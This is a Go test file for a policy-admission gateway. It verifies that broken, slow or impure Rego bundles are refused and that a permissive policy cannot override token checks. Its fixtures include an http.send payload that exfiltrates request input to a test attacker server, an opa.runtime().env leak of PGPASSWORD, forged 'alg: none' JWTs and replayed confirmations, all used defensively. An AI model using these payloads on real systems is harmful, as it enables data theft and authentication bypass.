package server_test

import (
	"context"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"testing/fstest"
	"time"

	"github.com/itocompute/itogate/gatekeeper/admission"
	"github.com/itocompute/itogate/gatekeeper/api"
	"github.com/itocompute/itogate/gatekeeper/bundle/bundletest"
	"github.com/itocompute/itogate/gatekeeper/ledger"
	"github.com/itocompute/itogate/gatekeeper/policy"
	"github.com/itocompute/itogate/gatekeeper/scenario"
	"github.com/itocompute/itogate/internal/patience"
	"github.com/itocompute/itogate/policies"
)

// handMade builds an engine from one Rego module of package ito.admission
// and the embedded bundle's data (a test bundle: the required-rules check is
// lifted; the data gives it the training facts every production bundle
// has, which the commit prices the expected lost work with). A zero
// deadline is one no machine can hit: only the timeout cases, whose rule is
// slow on purpose, race a deadline.
func handMade(t *testing.T, rego string, deadline time.Duration) (*policy.Engine, error) {
	t.Helper()
	if deadline == 0 {
		deadline = patience.Deadline
	}
	files := fstest.MapFS{
		"ito/admission/admission.rego": {Data: []byte("package ito.admission\n\n" + rego + "\n")},
	}
	for path, raw := range bundletest.Data(t, policies.Bundle()) {
		files[path] = &fstest.MapFile{Data: []byte(raw)}
	}
	return policy.New(context.Background(), policy.Options{
		Bundle:            files,
		Deadline:          deadline,
		SkipRequiredRules: true,
	})
}

// swappable is the harness's policy: whatever engine the case sets.
type swappable struct{ p atomic.Pointer[policy.Engine] }

func (s *swappable) decider() admission.Decider {
	if e := s.p.Load(); e != nil {
		return e
	}
	return nil
}

// slowRule scans 10^8 numbers: far beyond any deadline used here, and
// cancellable (numbers.range checks for cancellation as it goes).
const slowRule = `count([x | some x in numbers.range(1, 100000000); x % 7 == 0]) > 0`

// TestHostilePolicyFailures: a bundle whose decision is undefined,
// misspelled, of the wrong shape, raises an error or runs past the deadline
// is a coded 503 deny — POLICY_DECISION_INVALID, POLICY_EVALUATION_FAILED,
// POLICY_TIMEOUT — for a request that is otherwise valid; nothing is
// consumed or reserved, and the request returns.
func TestHostilePolicyFailures(t *testing.T) {
	var active swappable
	h := newHostile(t, hostileOptions{policy: active.decider})
	invalid := want{http.StatusServiceUnavailable, api.CodePolicyDecisionInvalid}
	failed := want{http.StatusServiceUnavailable, api.CodePolicyEvaluationFailed}
	timeout := want{http.StatusServiceUnavailable, api.CodePolicyTimeout}
	for _, tc := range []struct {
		name     string
		rego     string
		deadline time.Duration
		want     want
	}{
		{"decision undefined", `decision := d if { d := {"allow": true, "violations": []}; input.never_set }`, 0, invalid},
		{"entrypoint misspelled", `decison := {"allow": true, "violations": []}`, 0, invalid},
		{"entrypoint in another case", `Decision := {"allow": true, "violations": []}`, 0, invalid},
		{"decision a boolean", `decision := true`, 0, invalid},
		{"decision a string", `decision := "allow"`, 0, invalid},
		{"decision an array", `decision := [{"allow": true, "violations": []}]`, 0, invalid},
		{"decision a set", `decision := {"allow"}`, 0, invalid},
		{"allow a string", `decision := {"allow": "true", "violations": []}`, 0, invalid},
		{"allow a number", `decision := {"allow": 1, "violations": []}`, 0, invalid},
		{"allow missing", `decision := {"violations": []}`, 0, invalid},
		{"violations missing", `decision := {"allow": true}`, 0, invalid},
		{"violations a string", `decision := {"allow": true, "violations": "none"}`, 0, invalid},
		{"allow with violations", `decision := {"allow": true, "violations": [{"code": "X", "gate": "g", "message": "m"}]}`, 0, invalid},
		{"deny without violations", `decision := {"allow": false, "violations": []}`, 0, invalid},
		{"violation without a code", `decision := {"allow": false, "violations": [{"gate": "g", "message": "m"}]}`, 0, invalid},
		{"violation a string", `decision := {"allow": false, "violations": ["DENY"]}`, 0, invalid},
		{"warnings a number", `decision := {"allow": true, "violations": [], "warnings": 3}`, 0, invalid},
		{"division by zero", `decision := {"allow": count(input.request.action) / (count(input.request.action) - count(input.request.action)) > 0, "violations": []}`, 0, failed},
		{"builtin error on input", `decision := {"allow": to_number(input.request.booking_id) > 0, "violations": []}`, 0, failed},
		{"conflicting complete rule", "decision := {\"allow\": true, \"violations\": []} if input.now\ndecision := {\"allow\": false, \"violations\": []} if input.now", 0, failed},
		{"conflicting object keys", "decision[\"allow\"] := true if input.now\ndecision[\"allow\"] := false if input.now\ndecision[\"violations\"] := []", 0, failed},
		{"runs past the policy deadline", `decision := {"allow": ` + slowRule + `, "violations": []}`, 50 * time.Millisecond, timeout},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e, err := handMade(t, tc.rego, tc.deadline)
			if err != nil {
				t.Fatalf("policy.New: %v", err)
			}
			active.p.Store(e)
			f := h.fixture(t)
			r := h.admit(t, h.body(t, f, nil))
			h.expect(t, r, tc.want, f.ent, f.conf)
			if r.data() != nil {
				t.Fatal("a failed evaluation with data")
			}
			h.untouched(t, f.ref, f.key)
		})
	}
	// The same fixtures pass once a well-formed bundle decides.
	e, err := handMade(t, `decision := {"allow": true, "violations": []}`, 0)
	if err != nil {
		t.Fatal(err)
	}
	active.p.Store(e)
	h.allowed(t, h.fixture(t))
	h.finish(t)
}

// TestHostilePolicyRequestDeadline: when limits.request_timeout is shorter
// than the policy deadline, the request's own deadline stops evaluation with
// the same coded POLICY_TIMEOUT deny.
func TestHostilePolicyRequestDeadline(t *testing.T) {
	var active swappable
	// The policy never finishes on its own, so the request deadline always
	// ends it; the deadline only has to outlast the verification before it.
	h := newHostile(t, hostileOptions{policy: active.decider, requestTimeout: 5 * time.Second})
	f := h.fixture(t) // a deposit involves no policy
	e, err := handMade(t, `decision := {"allow": `+slowRule+`, "violations": []}`, patience.Deadline)
	if err != nil {
		t.Fatal(err)
	}
	active.p.Store(e)
	r := h.admit(t, h.body(t, f, nil))
	h.expect(t, r, want{http.StatusServiceUnavailable, api.CodePolicyTimeout}, f.ent, f.conf)
	h.untouched(t, f.ref, f.key)
	h.finish(t)
}

// TestHostileImpureBundle: policies are pure (docs/architecture.md §4). A bundle that
// calls a network, clock, randomness or runtime built-in (http.send could
// exfiltrate the input, opa.runtime().env would hand the process
// environment — PGPASSWORD — to a violation message) never becomes an
// engine, so it can never decide; and it never reaches the network.
func TestHostileImpureBundle(t *testing.T) {
	a := newAttacker(t)
	for _, tc := range []struct{ name, rego string }{
		{"http.send", `decision := {"allow": http.send({"method": "POST", "url": "` + a.url + `", "body": input}).status_code == 200, "violations": []}`},
		{"opa.runtime env", `decision := {"allow": false, "violations": [{"code": "X", "gate": "g", "message": sprintf("%v", [opa.runtime().env])}]}`},
		{"net.lookup_ip_addr", `decision := {"allow": count(net.lookup_ip_addr("example.com")) > 0, "violations": []}`},
		{"time.now_ns", `decision := {"allow": time.now_ns() > 0, "violations": []}`},
		{"rand.intn", `decision := {"allow": rand.intn("x", 2) == 0, "violations": []}`},
		{"uuid.rfc4122", `decision := {"allow": uuid.rfc4122("x") != "", "violations": []}`},
		{"io.jwt.decode_verify (reads the clock)", `decision := {"allow": io.jwt.decode_verify("a.b.c", {"secret": "s"})[0], "violations": []}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e, err := handMade(t, tc.rego, 0)
			if err == nil {
				// Never evaluated: it could reach the network.
				t.Fatalf("an impure bundle became an engine (revision %s)", e.Revision())
			}
			if !strings.Contains(err.Error(), "unsafe built-in") {
				t.Fatalf("policy.New = %v, want an unsafe built-in refusal", err)
			}
		})
	}
	if n := a.hits.Load(); n != 0 {
		t.Fatalf("the attacker was contacted %d times", n)
	}
}

// TestHostilePermissivePolicy: defense in depth (docs/architecture.md §1). A bundle that
// allows everything still cannot turn an unverified token or signature, an
// unknown, expired, consumed, foreign or mis-scoped confirmation into an
// allow: Go established those facts (or the ledger refuses the commit).
func TestHostilePermissivePolicy(t *testing.T) {
	e, err := handMade(t, `decision := {"allow": true, "violations": []}`, 0)
	if err != nil {
		t.Fatal(err)
	}
	h := newHostile(t, hostileOptions{policy: func() admission.Decider { return e }})
	f := h.fixture(t)
	noneEnt := compactJWS(mustMarshal(t, map[string]any{"alg": "none", "kid": h.dev.Entitlement.KeyID, "typ": "ito-entitlement+jwt"}),
		mustMarshal(t, h.claims(purposeEntitlement)), nil)
	noneCaller := compactJWS(mustMarshal(t, map[string]any{"alg": "none", "kid": h.dev.Caller.KeyID}),
		mustMarshal(t, h.claims(purposeCaller)), nil)
	h.secret(noneEnt, noneCaller)
	for _, tc := range []struct {
		name   string
		bearer string
		edit   map[string]any
		want   want
	}{
		{"alg none entitlement", h.callerTok, map[string]any{"entitlement_token": noneEnt}, want{http.StatusForbidden, "ENTITLEMENT_INVALID"}},
		{"alg none caller", noneCaller, nil, want{http.StatusUnauthorized, "CALLER_UNAUTHENTICATED"}},
		{"unsigned manifest", h.callerTok, map[string]any{"manifest_signature": ""}, want{http.StatusForbidden, "MANIFEST_SIGNATURE_INVALID"}},
		{"unknown confirmation", h.callerTok, map[string]any{"confirmation_ref": "cfr_" + strings.Repeat("0", 32)}, want{http.StatusForbidden, "CONFIRMATION_NOT_FOUND"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h.expect(t, h.do(t, http.MethodPost, "/v1/admissions", "application/json", tc.bearer, h.body(t, f, tc.edit)), tc.want, noneEnt, noneCaller)
			h.untouched(t, f.ref, f.key)
		})
	}
	t.Run("expired confirmation", func(t *testing.T) {
		conf := h.token(t, purposeConfirmation, func(c map[string]any) {
			now := h.now().Unix()
			c["iat"], c["exp"] = now-600, now-300
		})
		ref, key := ledger.NewConfirmationRef(), h.key("k-perm")
		if err := h.store.DepositConfirmation(context.Background(), ledger.Confirmation{Ref: ref, JTI: "jti_" + randomHex(),
			Account: scenario.Account, Action: "train.create", Token: []byte(conf), ExpiresAt: h.now().Add(-5 * time.Minute),
			DepositedAt: h.now(), State: ledger.ConfirmationAvailable}); err != nil {
			t.Fatal(err)
		}
		h.expect(t, h.admit(t, h.body(t, fixture{ent: f.ent, ref: ref, key: key}, nil)), want{http.StatusForbidden, "CONFIRMATION_EXPIRED"}, conf)
		h.untouched(t, ref, key)
	})
	t.Run("another account's confirmation", func(t *testing.T) {
		conf := h.token(t, purposeConfirmation, func(c map[string]any) { c["sub"] = "acct_victim" })
		g := fixture{ent: f.ent, conf: conf, ref: h.deposit(t, conf), key: h.key("k-perm")}
		h.expect(t, h.admit(t, h.body(t, g, nil)), want{http.StatusForbidden, "CONFIRMATION_INVALID"}, conf)
		h.untouched(t, g.ref, g.key)
	})
	t.Run("a confirmation for another action", func(t *testing.T) {
		conf := h.token(t, purposeConfirmation, func(c map[string]any) { c["act"] = "booking.release" })
		g := fixture{ent: f.ent, conf: conf, ref: h.deposit(t, conf), key: h.key("k-perm")}
		h.expect(t, h.admit(t, h.body(t, g, nil)), want{http.StatusForbidden, "CONFIRMATION_INVALID"}, conf)
		h.untouched(t, g.ref, g.key)
	})
	t.Run("a consumed confirmation under a new key", func(t *testing.T) {
		g := h.fixture(t)
		h.allowed(t, g)
		again := g
		again.key = h.key("k-perm")
		h.expect(t, h.admit(t, h.body(t, again, nil)), want{http.StatusForbidden, "CONFIRMATION_REPLAYED"}, g.conf)
		h.untouched(t, "", again.key)
	})
	h.allowed(t, f)
	h.finish(t)
}
